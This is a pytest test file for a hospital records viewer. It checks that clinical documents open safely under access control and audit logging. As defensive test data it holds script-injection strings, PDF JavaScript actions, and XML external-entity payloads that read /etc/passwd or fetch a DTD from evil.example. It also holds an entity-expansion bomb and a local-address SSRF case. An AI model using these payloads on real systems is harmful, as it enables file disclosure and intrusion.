"""A document of the shared record opens through the gate, shows what it says, and runs nothing."""

import re
import zlib
from typing import Any

import pytest

from alliance.roles import Role
from consent.audit.log_query import AuditFilter, list_audit_lines
from consent.services.emergencies import do_break_glass
from tests.factories import alliance
from tests.factories.documents import (
    encode,
    make_cda,
    make_composition,
    make_document,
    make_pdf,
    make_png,
    make_report,
    make_section,
)
from tests.factories.fhir import Api, make_patient
from tests.support.browser import ENGLISH, signed_in
from tests.support.html import Browser
from tests.support.world import HIV, World, related, w

__all__ = ["w"]
SCRIPT = "<script>document.title='ran'</script>"


class Reader:
    """The doctor of the hospital that asks, before the documents of the one that holds."""

    def __init__(self, w: World) -> None:
        self.w = w
        self.staff = alliance.make_staff(w.a)
        self.browser: Browser = signed_in(self.staff)

    def path(self, what: str) -> str:
        return f"/person/{self.w.person}/document/{self.w.b.code}/{what}/"

    def get(self, what: str) -> Any:
        return self.browser.get(self.path(what), headers=ENGLISH)

    def page(self, resource: dict[str, Any]) -> str:
        """The page of a document that is stored for it."""
        reply = self.get(self.w.hold.create(resource))
        assert reply.status_code == 200, reply.content
        return str(reply.content.decode())

    def file(self, data: bytes, media: str) -> tuple[str, Any]:
        """The page of a document with one file, and the file as it would be framed."""
        what = self.w.hold.create(make_document(self.w.at_b, data, media))
        return self.get(what).content.decode(), self.get(f"{what}/1")

    def lines(self) -> list[dict[str, Any]]:
        """What the log says that this doctor did, the newest first."""
        found = list_audit_lines(AuditFilter(person=self.w.person), None, 50)  # type: ignore[arg-type]
        return [x for x in found if x["actor"] == str(self.staff.pk)]


@pytest.fixture
def reader(w: World) -> Reader:
    related(w)
    w.permit()
    return Reader(w)


def is_saved(reply: Any) -> bool:
    """Whether the bytes are only handed out, as bytes of no type."""
    return bool(
        reply["Content-Disposition"].startswith('attachment; filename="document-1.')
        and reply["Content-Type"] == "application/octet-stream"
        and reply["X-Content-Type-Options"] == "nosniff"
        and "default-src 'none'" in reply["Content-Security-Policy"]
    )


def test_the_head_of_a_document(reader: Reader) -> None:
    page = reader.page(make_document(reader.w.at_b, docStatus="preliminary"))
    for words in (
        "出院小结",
        "王医生",
        reader.w.b.name_en,
        "2026-11-21 07:30",
        "preliminary document",
        "胸部未见异常。",
    ):
        assert words in page, words
    assert "entered in error" not in page
    wrong = reader.page(make_document(reader.w.at_b, status="entered-in-error"))
    assert "entered in error" in wrong and "no longer applies" in wrong


def test_a_document_replaces_another(reader: Reader) -> None:
    w = reader.w
    old = w.hold.create(make_document(w.at_b, status="superseded"))
    other = w.hold.create(make_document(w.at_b))
    new = w.hold.create(
        make_document(w.at_b, relatesTo=[{"code": "replaces", "target": {"reference": old}}])
    )
    w.hold.create(
        make_document(w.at_b, relatesTo=[{"code": "appends", "target": {"reference": old}}])
    )
    before = reader.get(old).content.decode()
    assert before.count("Replaced by a newer document") == 1 and reader.path(new) in before
    assert "superseded" in before
    assert reader.path(old) in reader.get(new).content.decode()
    assert "Replaced by" not in reader.get(other).content.decode(), "the control"


def test_each_open_leaves_a_line_that_names_the_document(reader: Reader) -> None:
    what = reader.w.hold.create(make_document(reader.w.at_b, make_png(), "image/png"))
    before = len(reader.lines())
    assert reader.get(what).status_code == 200
    assert reader.get(f"{what}/1").status_code == 200
    found = reader.lines()
    assert len(found) == before + 2, "one for the page, one for the file"
    for line, detail in zip(found, ("document file 1", "document"), strict=False):
        assert (line["code"], line["outcome"], line["detail"]) == (
            "records:record:open",
            "success",
            detail,
        )
        assert line["target"] == f"{reader.w.b.code}/{what}"
        assert f"{reader.w.b.code}/{what}/1" in line["refs"]


def test_hidden_anothers_and_absent_look_the_same(reader: Reader) -> None:
    w = reader.w
    hidden = w.hold.create(make_document(w.at_b, type=HIV))
    stranger = w.hold.create(make_document(w.hold.create(make_patient())))
    deleted = w.hold.create(make_document(w.at_b))
    assert w.hold("DELETE", deleted).status in (200, 204)
    asked = [
        *(reader.path(x) for x in (hidden, stranger, deleted, "DocumentReference/nowhere")),
        reader.path(w.plain),
        reader.path(w.at_b),
        f"/person/{w.person}/document/nowhere/DocumentReference/x/",
    ]
    replies = [reader.browser.get(p, headers=ENGLISH) for p in asked]
    assert {r.status_code for r in replies} == {404}
    assert len({strip_changing(r) for r in replies}) == 1
    lines = reader.lines()
    assert {x["outcome"] for x in lines[: len(asked)]} == {"not-found"}
    assert all(not x["refs"] for x in lines[: len(asked)])
    w.permit(sensitive=True)
    assert reader.get(hidden).status_code == 200, "the control"


def strip_changing(reply: Any) -> str:
    """A page without what changes from one request to the next."""
    return re.sub(r'data-left="\d+"|csrf[^>]+>', "", reply.content.decode())


def test_where_the_gate_refuses_the_record_no_document_can_be_told_from_none(w: World) -> None:
    there = w.hold.create(make_document(w.at_b))
    outsider = Reader(w)
    outsider.staff = alliance.make_staff(alliance.make_hospital("none"))
    outsider.browser = signed_in(outsider.staff)
    replies = [outsider.get(x) for x in (there, "DocumentReference/nowhere")]
    assert [r.status_code for r in replies] == [403, 403]
    assert strip_changing(replies[0]) == strip_changing(replies[1])
    assert [outsider.get(f"{x}/1").status_code for x in (there, "DocumentReference/nowhere")] == [
        403,
        403,
    ]
    assert {x["outcome"] for x in outsider.lines()} == {"refused"}
    own = Reader(w)
    own.browser = signed_in(alliance.make_staff(w.b))
    assert own.get(there).status_code == 200, "the control: their own hospital's"


def test_an_emergency_opens_documents_and_says_so(w: World) -> None:
    what = w.hold.create(make_document(w.at_b, type=HIV))
    reader = Reader(w)
    assert reader.get(what).status_code == 404
    do_break_glass(
        w.person,  # type: ignore[arg-type]
        ground="rescue",
        reason="unconscious",
        hours=1,
        acting=alliance.get_staff_principal(reader.staff),
    )
    reply = reader.get(what)
    assert reply.status_code == 200 and "Emergency access is active" in reply.content.decode()
    assert reader.lines()[0]["purpose"] == "BTG"


def test_texts_in_the_character_sets_of_chinese_systems(reader: Reader) -> None:
    words = "患者诉胸痛，㛃镕"
    for data, media, odd in (
        (words.encode(), "text/plain; charset=utf-8", ""),
        (words.encode("gb18030"), "text/plain; charset=GBK", ""),
        (words.encode("gb18030"), "text/plain", ""),
        (words.encode("utf-16"), "text/plain", ""),
        (words.encode("gb18030"), "text/plain; charset=utf-8", "was read as gb18030"),
        (words.encode(), "text/plain; charset=utf-7", "was read as utf-8"),
    ):
        page, _ = reader.file(data, media)
        assert words in page, media
        assert (odd in page) if odd else "was read as" not in page, media
    page, _ = reader.file(b"\xff\xff\x81 x", "text/plain; charset=utf-8")
    assert "cannot be read" in page and "�" in page


def test_a_text_is_never_markup(reader: Reader) -> None:
    page, reply = reader.file(SCRIPT.encode(), "text/plain")
    assert "&lt;script&gt;document" in page and SCRIPT not in page
    assert is_saved(reply), "a text has no address at which a browser would read it"


@pytest.mark.parametrize(
    ("data", "media", "kind"),
    [
        (make_png(), "image/png", "img"),
        (make_png(), "IMAGE/PNG; x=y", "img"),
        (b"\xff\xd8\xff\xe0 x", "image/jpeg", "img"),
        (b"GIF89a x", "image/gif", "img"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "image/webp", "img"),
        (make_pdf(), "application/pdf", "iframe"),
        ("<p>血压</p>".encode(), "text/html", "iframe"),
    ],
)
def test_what_is_framed(reader: Reader, data: bytes, media: str, kind: str) -> None:
    page, reply = reader.file(data, media)
    assert f"<{kind}" in page and "/1/save/" in page
    assert reply.status_code == 200 and reply.content == data
    assert reply["Content-Type"].partition(";")[0] == media.partition(";")[0].lower()
    assert reply["Content-Disposition"].startswith('inline; filename="document-1.')
    assert reply["X-Content-Type-Options"] == "nosniff"
    assert reply["X-Frame-Options"] == "SAMEORIGIN"
    assert reply["Cache-Control"] == "no-store, private"
    policy = reply["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; base-uri 'none'; form-action 'none'")
    assert "script-src" not in policy and ("sandbox" in policy or kind == "iframe")


def test_html_stands_in_a_sandbox(reader: Reader) -> None:
    what = reader.w.hold.create(
        make_document(
            reader.w.at_b,
            f"<meta charset=utf-7><h1>查房</h1>{SCRIPT}".encode("gb18030"),
            "text/html; charset=gb2312",
        )
    )
    page, framed = reader.get(what), reader.get(f"{what}/1")
    assert "<iframe" in page.content.decode() and " sandbox" in page.content.decode()
    assert SCRIPT not in page.content.decode() and "查房" not in page.content.decode()
    assert framed["Content-Type"] == "text/html; charset=utf-8"
    assert "查房" in framed.content.decode()
    rules = framed["Content-Security-Policy"].split("; ")
    assert "sandbox" in rules, "a sandbox with nothing allowed in it"
    assert "img-src data:" in rules and "frame-ancestors 'self'" in rules
    assert "frame-src 'self'" in page["Content-Security-Policy"].split("; ")
    assert is_saved(reader.get(f"{what}/1/save"))


@pytest.mark.parametrize(
    ("data", "media"),
    [
        (make_pdf(), "image/png"),
        (make_png(), "application/pdf"),
        (make_pdf() + SCRIPT.encode(), "text/html"),
        (b"GIF89a/*" + SCRIPT.encode(), "text/html"),
        (SCRIPT.encode(), "image/gif"),
        (SCRIPT.encode(), "application/pdf"),
        (b"PK\x03\x04" + b"x" * 20, "text/plain"),
        (b"x\0y", "text/plain"),
        (b" " + make_pdf(), "application/pdf"),
    ],
)
def test_what_is_not_what_it_says_is_only_handed_out(
    reader: Reader, data: bytes, media: str
) -> None:
    page, reply = reader.file(data, media)
    assert "does not begin as one of its stated type does" in page
    assert "<iframe" not in page and "<img class" not in page
    assert is_saved(reply) and reply["Content-Disposition"].endswith('.bin"')
    assert reply.content == data


@pytest.mark.parametrize(
    ("data", "media", "ending"),
    [
        (
            f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode(),
            "image/svg+xml",
            "txt",
        ),
        (b"{\\rtf1 x}", "application/rtf", "rtf"),
        (b"BM1234", "image/bmp", "bmp"),
        (b"II*\0 x", "image/tiff", "tif"),
        (b"MZ\x90\0", "application/x-msdownload", "bin"),
        (b"x", "", "bin"),
        (b"x", 'text/html" onload=x', "bin"),
        (f"<x>{SCRIPT}</x>".encode(), "application/xml", "txt"),
    ],
)
def test_what_is_not_shown_is_handed_out(
    reader: Reader, data: bytes, media: str, ending: str
) -> None:
    what = reader.w.hold.create(
        make_document(
            reader.w.at_b,
            content=[
                {"attachment": {"data": encode(data), **({"contentType": media} if media else {})}}
            ],
        )
    )
    page, reply = reader.get(what).content.decode(), reader.get(f"{what}/1")
    assert "save it" in page or "is not opened here" in page, page
    assert "<iframe" not in page and "<img class" not in page and SCRIPT not in page
    assert is_saved(reply) and reply["Content-Disposition"].endswith(f'.{ending}"')
    assert reply.content == data


def make_object_pdf(header: bytes, objects: bytes) -> bytes:
    """A PDF of which some objects lie in a stream."""
    return (
        b"%PDF-1.5\n9 0 obj\n<< " + header + b" >>\nstream\n" + objects + b"\nendstream\nendobj\n"
    )


ACTION, PAGE = b"1 0 2 20 << /S /JavaScript /JS (x) >>", b"1 0 2 20 << /Type /Page >>"
PACKED = b"/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode"


@pytest.mark.parametrize(
    ("data", "opens"),
    [
        (make_pdf("app.alert(1)"), False),
        (b"%PDF-1.4 /J#61vaScript", False),
        (b"%PDF-1.4 trailer << /Encrypt 5 0 R >>", False),
        (make_object_pdf(PACKED, zlib.compress(ACTION)), False),
        (make_object_pdf(PACKED, zlib.compress(PAGE)), True),
        (make_object_pdf(PACKED.replace(b"ObjStm", b"Obj#53tm"), zlib.compress(ACTION)), False),
        (make_object_pdf(PACKED, zlib.compress(PAGE)[:-6]), False),
        (make_object_pdf(PACKED, zlib.compress(b"0" * (65 << 20))), False),
        (
            make_object_pdf(PACKED + b" /DecodeParms << /Predictor 12 >>", zlib.compress(PAGE)),
            False,
        ),
        (make_object_pdf(b"/Type /ObjStm /X (stream ) /Filter /FlateDecode", ACTION), False),
        (make_pdf(), True),
    ],
)
def test_a_pdf_that_does_more_than_show_pages_is_handed_out(
    reader: Reader, data: bytes, opens: bool
) -> None:
    page, reply = reader.file(data, "application/pdf")
    assert ("<iframe" in page) is opens and ("does more than show pages" in page) is not opens
    assert is_saved(reply) is not opens and reply.content == data


def test_what_is_too_large_is_handed_out(reader: Reader) -> None:
    page, reply = reader.file(b"x" * ((1 << 20) + 1), "text/plain")
    assert "too large to be shown here" in page and is_saved(reply)
    page, _ = reader.file(b"x" * (1 << 20), "text/plain")
    assert "too large" not in page, "the control"


def test_a_cda_as_narrative(reader: Reader) -> None:
    table = (
        "<table><thead><tr><th>项目</th><th>结果</th></tr></thead><tbody><tr>"
        '<td colspan="2" onclick="x()" style="position:fixed">钾 3.1</td></tr></tbody></table>'
        '<list listType="ordered"><item>一</item></list><content styleCode="Bold">重</content>'
        '<linkHtml href="javascript:x()">甲</linkHtml><linkHtml href="http://evil.example/">乙'
        f'</linkHtml><renderMultiMedia referencedObject="x"/>{SCRIPT}'
    )
    for encoding in ("UTF-8", "GB18030", "UTF-16"):
        page, reply = reader.file(make_cda(table, encoding=encoding), "text/xml")
        for words in (
            "出院小结（住院）",
            "2026-11-21 07:30",
            "欧阳明",
            "赵医生",
            "北山医院",
            "诊断",
        ):
            assert words in page, (encoding, words)
        assert "<th>项目</th>" in page and '<td colspan="2">钾 3.1</td>' in page
        assert "<ol><li>一</li></ol>" in page and "<b>重</b>" in page
        assert "乙<small> [evil.example]</small>" in page and "image, not shown" in page
        assert "no narrative; its coded entries" in page
        for bad in ("onclick", "position:fixed", "javascript:", "http://evil", "document.title"):
            assert bad not in page, bad
        assert is_saved(reply)


@pytest.mark.parametrize(
    ("narrative", "head"),
    [
        ("&x;", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ("&x;", '<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:1/x">]>'),
        (
            "&c;",
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>',
        ),
        ("x", '<!DOCTYPE x PUBLIC "x" "http://evil.example/x.dtd">'),
        ("x", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
        ("<paragraph>", ""),
        ("<content>" * 150 + "</content>" * 150, ""),
        ("<br/>" * 100_001, ""),
    ],
)
def test_xml_that_reaches_out_or_has_no_end_is_not_opened(
    reader: Reader, narrative: str, head: str
) -> None:
    page, reply = reader.file(make_cda(narrative, head), "application/xml")
    assert "no clinical document (CDA), or one that is not opened here" in page
    assert "root:" not in page and "aaaaaaaaaa" not in page and is_saved(reply)
    page, _ = reader.file(make_cda("<paragraph>&#x7CD6;&amp;&lt;b&gt;</paragraph>"), "text/xml")
    assert "<div>糖&amp;&lt;b&gt;</div>" in page, "the control"


def test_a_composition_and_what_it_names(reader: Reader) -> None:
    w = reader.w
    report = w.hold.create(make_report(w.at_b))
    page = reader.page(
        make_composition(
            w.at_b,
            make_section(
                "主诉",
                '<p class="glass" id="main" style="position:fixed">胸痛<a'
                ' href="https://evil.example/x">详见</a></p><img src="http://evil.example/t.png"'
                ' alt="图"/><h1>既往</h1>',
                section=[make_section("现病史", "<p>三天</p>")],
            ),
            {
                "title": "检查",
                "entry": [{"reference": report, "display": "胸部CT"}, {"reference": w.plain}],
            },
            {"title": "家族史", "emptyReason": {"text": "未询问"}},
        )
    )
    for words in ("入院记录", "李医生", "主诉", "胸痛", "现病史", "三天", "检查", "未询问"):
        assert words in page, words
    assert f'href="{reader.path(report)}"' in page and "<p><b>既往</b></p>" in page
    assert "详见<small> [evil.example]</small>" in page and "[image, not shown 图]" in page
    for bad in (
        "https://evil",
        "http://evil",
        'class="glass"',
        'id="main" style',
        "position:fixed",
    ):
        assert bad not in page, bad


def test_a_stored_document_bundle(reader: Reader) -> None:
    w = reader.w
    mine = {k: v for k, v in w.hold("GET", w.at_b).json.items() if k != "meta"} | {"id": "x"}
    letter = make_composition(
        "Patient/x",
        make_section("诊疗经过", "<p>好转</p>", entry=[{"reference": "Observation/o"}]),
        id="c",
    )
    root = "http://sender.example/fhir"
    note = {
        "resourceType": "Observation",
        "id": "o",
        "status": "final",
        "code": {"text": "血钠"},
        "subject": {"reference": "Patient/x"},
    }
    whole = {
        "resourceType": "Bundle",
        "type": "document",
        "timestamp": "2026-11-01T00:00:00Z",
        "identifier": {"system": "urn:x", "value": "1"},
        "entry": [
            {"fullUrl": f"{root}/{r['resourceType']}/{r['id']}", "resource": r}
            for r in (letter, mine, note)
        ],
    }
    reply = w.hold("POST", "Bundle", whole)
    assert reply.status == 201, reply.body
    what = f"Bundle/{reply.json['id']}"
    page = reader.get(what).content.decode()
    assert all(words in page for words in ("入院记录", "诊疗经过", "好转", "血钠"))
    listed = reader.browser.get(f"/person/{w.person}/documents/", headers=ENGLISH).content.decode()
    assert reader.path(what) in listed


def test_a_report_with_its_printed_form(reader: Reader) -> None:
    w = reader.w
    what = w.hold.create(
        make_report(
            w.at_b,
            result=[{"reference": w.plain}],
            presentedForm=[
                {"contentType": "application/pdf", "data": encode(make_pdf()), "title": "打印件"},
                {"contentType": "text/plain", "data": encode(b"second")},
            ],
        )
    )
    page = reader.get(what).content.decode()
    for words in (
        "胸部CT平扫",
        "右肺上叶结节",
        "打印件",
        "1 result belongs to this report",
        "second",
    ):
        assert words in page, words
    assert reader.get(f"{what}/1").content == make_pdf()
    assert reader.get(f"{what}/3").status_code == 404
    for tab in ("", "documents/", "results/"):
        listed = reader.browser.get(f"/person/{w.person}/{tab}", headers=ENGLISH)
        assert reader.path(what) in listed.content.decode(), tab


def test_a_page_opens_only_the_first_of_many_files(reader: Reader) -> None:
    texts = [
        {"attachment": {"contentType": "text/plain", "data": encode(b"n%d." % n)}}
        for n in range(21)
    ]
    what = reader.w.hold.create(make_document(reader.w.at_b, content=texts))
    page = reader.get(what).content.decode()
    assert "n19." in page and "n20." not in page
    assert page.count("only the first files") == 1
    assert reader.get(f"{what}/21/save").content == b"n20.", "it can be saved"


def binary(api: Api, about: str = "", data: bytes = b"a letter", **more: Any) -> str:
    return api.create(
        {
            "resourceType": "Binary",
            "contentType": "text/plain",
            "data": encode(data),
            **({"securityContext": {"reference": about}} if about else {}),
            **more,
        }
    )


def naming(about: str, url: str) -> dict[str, Any]:
    return make_document(about, content=[{"attachment": {"contentType": "text/plain", "url": url}}])


def test_a_binary_opens_with_the_document_that_names_it(reader: Reader) -> None:
    w = reader.w
    inside = binary(w.hold, w.at_b)
    what = w.hold.create(naming(w.at_b, inside))
    assert "a letter" in reader.get(what).content.decode()
    reply = reader.get(f"{what}/1/save")
    assert reply.content == b"a letter" and is_saved(reply)
    assert f"{w.b.code}/{inside}/1" in reader.lines()[0]["refs"], "the file is named, too"
    whole = w.hold.create(naming(w.at_b, f"http://testserver/fhir/{w.b.code}/{inside}"))
    assert "a letter" in reader.get(whole).content.decode(), "by the store's own address, too"


def test_no_other_binary_opens(reader: Reader) -> None:
    """Another patient's, of whom nobody has said whom it is about, specially protected, deleted, of
    another hospital: none of them, whatever a document says.
    """
    w = reader.w
    other = w.hold.create(make_patient())
    at_a = w.ask(
        "GET", f"Patient?identifier={w.hold('GET', w.at_b).json['identifier'][0]['value']}"
    )
    mine_at_a = f"Patient/{at_a.json['entry'][0]['resource']['id']}"
    gone = binary(w.hold, w.at_b)
    foreign = binary(w.ask, mine_at_a)
    documents = [
        w.hold.create(naming(w.at_b, b))
        for b in (
            binary(w.hold, other),
            binary(w.hold),
            binary(w.hold, w.at_b, meta={"security": [{"code": "R"}]}),
            gone,
            "Binary/nowhere",
        )
    ]
    assert w.hold("DELETE", gone).status in (200, 204)
    documents.append(w.hold.create(naming(w.at_b, foreign)))
    for url in (
        f"/fhir/{w.a.code}/{foreign}",
        f"http://testserver/fhir/{w.a.code}/{foreign}",
        f"../{w.a.code}/{foreign}",
        f"Binary/../../{w.a.code}/{foreign}",
    ):
        made = w.hold("POST", "DocumentReference", naming(w.at_b, url))
        if made.status == 201:
            documents.append(f"DocumentReference/{made.json['id']}")
    for what in documents:
        page = reader.get(what).content.decode()
        assert "a letter" not in page
        assert reader.get(f"{what}/1").status_code == 404
    own = w.hold.create(naming(w.at_b, binary(w.hold, w.at_b)))
    assert "a letter" in reader.get(own).content.decode(), "the control"


def test_addresses_of_other_servers_are_told_and_never_asked(reader: Reader) -> None:
    page = reader.page(naming(reader.w.at_b, "http://127.0.0.1:9/pacs?patient=1"))
    assert "kept at 127.0.0.1" in page and "127.0.0.1:9" not in page


def test_what_carries_something_unknown_is_not_opened(reader: Reader) -> None:
    page = reader.page(
        make_document(
            reader.w.at_b,
            modifierExtension=[{"url": "urn:x", "valueBoolean": True}],
        )
    )
    assert "胸部未见异常" not in page and "王医生" not in page and "no longer applies" not in page
    assert "does not understand" in page
    assert "王医生" in reader.page(make_document(reader.w.at_b)), "the control"


def test_others_are_not_let_in(reader: Reader) -> None:
    what = reader.w.hold.create(make_document(reader.w.at_b))
    assert Browser().get(reader.path(what)).status_code == 302
    for role in (Role.CLERK, Role.AUDITOR, Role.PRIVACY, Role.ADMINISTRATOR):
        browser = signed_in(alliance.make_staff(reader.w.b, role))
        for path in (reader.path(what), reader.path(f"{what}/1"), reader.path(f"{what}/1/save")):
            assert browser.get(path).status_code == 403, (role, path)
    assert reader.get(what).status_code == 200, "the control"
    assert reader.browser.post(reader.path(what)).status_code == 405
